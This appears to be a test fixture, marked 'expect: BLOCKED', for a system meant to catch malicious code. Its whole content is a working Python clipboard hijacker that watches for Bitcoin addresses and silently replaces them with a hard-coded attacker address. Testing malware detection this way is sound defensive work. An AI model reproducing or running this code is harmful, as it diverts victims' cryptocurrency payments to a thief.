# expect: BLOCKED
import re
import time
import pyperclip

MINE = "bc1qxy2kgdygjrsqtzq2n0yrf2493p83kkfjhx0wlh"
PATTERN = re.compile(r"^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$")

while True:
    text = pyperclip.paste()
    if PATTERN.match(text) and text != MINE:
        pyperclip.copy(MINE)
    time.sleep(0.5)
